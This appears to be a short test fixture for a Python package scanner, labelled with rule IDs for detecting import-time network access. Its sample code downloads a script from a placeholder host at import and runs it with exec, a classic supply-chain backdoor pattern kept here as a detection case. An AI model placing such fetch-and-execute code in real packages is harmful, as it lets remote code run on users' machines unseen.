# canary-test: path=mypkg/plugins.py artifact=wheel
# Fetch code at import and exec it through a variable.
import urllib.request

# ruleid: MODULE_LEVEL_DOWNLOAD_AND_EXECUTE, MODULE_LEVEL_NETWORK
_code = urllib.request.urlopen("https://example.invalid/p.py", timeout=5).read()
# ruleid: MODULE_LEVEL_DOWNLOAD_AND_EXECUTE
exec(_code)
